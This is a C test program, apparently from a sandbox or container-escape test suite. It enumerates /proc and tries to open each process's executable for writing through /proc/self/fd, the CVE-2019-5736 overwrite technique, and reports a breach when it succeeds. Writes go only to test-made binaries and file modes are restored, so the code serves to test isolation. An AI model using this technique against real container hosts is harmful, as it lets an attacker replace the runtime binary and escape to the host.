/*
 * Overwrites the program that runs the box, through the names by which /proc shows it: the way of
 * CVE-2019-5736. A running file cannot be opened for writing, so it is also held by descriptor and
 * tried again for a while.
 *
 * Only a program that the test made for it is written to: its path must hold WORD. Of any other,
 * being able to open it for writing is breach enough, and its mode is set to what it is.
 *
 *     launcher WORD
 */
#include <dirent.h>

#include "hostile.h"

static const char *word;

static bool made_for_this(const char *path)
{
    char target[PATH_MAX] = "";

    return readlink(path, target, sizeof(target) - 1) > 0 && strstr(target, word);
}

static int open_when_idle(const char *name)
{
    int fd = -1;

    for (int i = 0; i < 50; i++) {
        fd = open(name, O_WRONLY | O_APPEND);
        if (fd >= 0 || errno != ETXTBSY)
            break;
        usleep(1000);
    }
    return fd;
}

static void overwrite(const char *path)
{
    char name[64];
    struct stat st;
    int held = open(path, O_PATH), fd;

    if (held < 0 || fstat(held, &st) < 0) {
        denied("hold %s", path);
        return;
    }
    snprintf(name, sizeof(name), "/proc/self/fd/%d", held);
    fd = open_when_idle(name);
    attempt(fd, "open %s for writing", path);
    if (fd >= 0 && made_for_this(path) && write(fd, "spoilt", 6) == 6)
        breach("wrote to %s", path);
    if (fd >= 0)
        close(fd);
    attempt(chmod(name, st.st_mode & 07777), "chmod %s", path);
    close(held);
}

int main(int argc, char **argv)
{
    char path[300];
    struct dirent *e;
    DIR *d = opendir("/proc");
    pid_t self = getpid();

    word = argv[1];
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == self)
            continue;
        snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
        overwrite(path);
    }
    return verdict();
}
